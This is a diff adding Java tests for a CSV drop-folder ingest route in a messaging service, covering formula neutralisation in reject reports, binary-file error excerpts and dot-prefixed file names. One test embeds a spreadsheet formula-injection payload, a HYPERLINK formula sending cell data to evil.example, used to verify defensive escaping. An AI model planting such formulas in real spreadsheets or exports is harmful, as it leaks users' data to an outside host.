@@ -3,6 +3,7 @@ package io.windowgate.routes;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.awaitility.Awaitility.await;
 
+import java.net.http.HttpResponse;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
@@ -90,6 +91,29 @@ class CsvDropIngestRouteTest extends RouteTestSupport {
     }
 
     @Test
+    void aFormulaInARejectedRowIsNeutralisedAndTheFixedFileDroppedAgainSendsTheOriginal() throws Exception {
+        windows().recordInbound("+14155550101", Instant.now().minusSeconds(60), "wamid.in.1");
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+        drop("promo.csv", "id,to,text,category\n"
+                + "f-1,+14155550101,\"" + formula.replace("\"", "\"\"") + "\",nonsense\n");
+
+        Path rejected = dropDir.resolve(".done/promo.csv.rejected.csv");
+        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/promo.csv")));
+        String report = Files.readString(rejected);
+        assertThat(report).contains(",\"'+14155550101\",\"'=HYPERLINK(").doesNotContain(",=HYPERLINK(")
+                .contains("category 'nonsense' is unknown");
+        assertThat(statusOf("f-1")).isNull();
+
+        drop("promo-fixed.csv", report.replace(",nonsense", ",utility"));
+        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".done/promo-fixed.csv")));
+        assertThat(statusOf("f-1")).isEqualTo(Status.SENT);
+        assertThat(stored("f-1").notification().to()).isEqualTo("+14155550101");
+        assertThat(sentTo(SESSION_PATH)).singleElement()
+                .satisfies(body -> assertThat(body.path("text").path("body").asText()).isEqualTo(formula));
+        assertThat(dropDir.resolve(".done/promo-fixed.csv.rejected.csv")).doesNotExist();
+    }
+
+    @Test
     void droppingTheSameRowsAgainSendsNothing() throws Exception {
         String content = "to;text;template;language\n+14155550101;;order_shipped;en_US\n+14155550102;;order_shipped;en_US\n";
         drop("first.csv", content);
@@ -112,6 +136,16 @@ class CsvDropIngestRouteTest extends RouteTestSupport {
         assertThat(Files.readString(reason)).contains("not valid CSV");
         assertThat(statusOf("x-1")).isNull();
         assertThat(sentTo("/v22.0/.*/messages")).isEmpty();
+    }
+
+    @Test
+    void aBinaryFilesReasonQuotesABoundedPrintableExcerpt() throws Exception {
+        Files.write(dropDir.resolve("zeros.csv"), new byte[4096]);
+
+        Path reason = dropDir.resolve(".error/zeros.csv.reason.txt");
+        await().atMost(WAIT).until(() -> Files.exists(dropDir.resolve(".error/zeros.csv")) && Files.exists(reason));
+        assertThat(Files.readString(reason)).startsWith("zeros.csv: the header row has no 'to' column")
+                .contains("\\u0000").contains("…").doesNotContain("\u0000").hasSizeLessThan(300);
     }
 
     @Test
@@ -145,6 +179,29 @@ class CsvDropIngestRouteTest extends RouteTestSupport {
         assertThat(sent.stream().filter(id -> id.startsWith("a-"))).containsExactlyElementsOf(first);
         assertThat(sent.stream().filter(id -> id.startsWith("b-"))).containsExactlyElementsOf(second);
         assertThat(first).allSatisfy(id -> assertThat(statusOf(id)).isEqualTo(Status.SENT));
+    }
+
+    @Test
+    void aCsvWhoseNameStartsWithADotMovesToErrorWithAReasonAndTemporaryNamesAreLeftAlone() throws Exception {
+        Files.writeString(dropDir.resolve(".export.csv.tmp"), "id,to,text\nt-1,+14155550101,hi\n");
+        Files.writeString(dropDir.resolve(".export.csv.Xy12ab"), "id,to,text\nt-2,+14155550101,hi\n");
+        drop(".orders.csv", "id,to,template,language\nd-1,+14155550101,order_shipped,en_US\n");
+        drop("..list.csv", "id,to,template,language\nd-2,+14155550101,order_shipped,en_US\n");
+
+        Path reason = dropDir.resolve(".error/.orders.csv.reason.txt");
+        Path second = dropDir.resolve(".error/..list.csv.reason.txt");
+        await().atMost(WAIT).until(() -> Files.exists(reason) && Files.exists(second));
+        assertThat(Files.readString(reason).strip()).isEqualTo(".orders.csv: file names starting with '.' are "
+                + "reserved for Windowgate's own folders and temporary files: rename it to orders.csv");
+        assertThat(Files.readString(second)).contains("rename it to list.csv");
+        assertThat(dropDir.resolve(".error/.orders.csv")).exists();
+        assertThat(dropDir.resolve(".orders.csv")).doesNotExist();
+        assertThat(dropDir.resolve(".export.csv.tmp")).exists();
+        assertThat(dropDir.resolve(".export.csv.Xy12ab")).exists();
+        assertThat(List.of("d-1", "d-2", "t-1", "t-2")).allSatisfy(id -> assertThat(statusOf(id)).isNull());
+        assertThat(sentTo("/v22.0/.*/messages")).isEmpty();
+        HttpResponse<String> runs = get("/api/files/.orders.csv", ADMIN_TOKEN);
+        assertThat(runs.body()).contains("ERROR").contains("rename it to orders.csv");
     }
 
     @Test
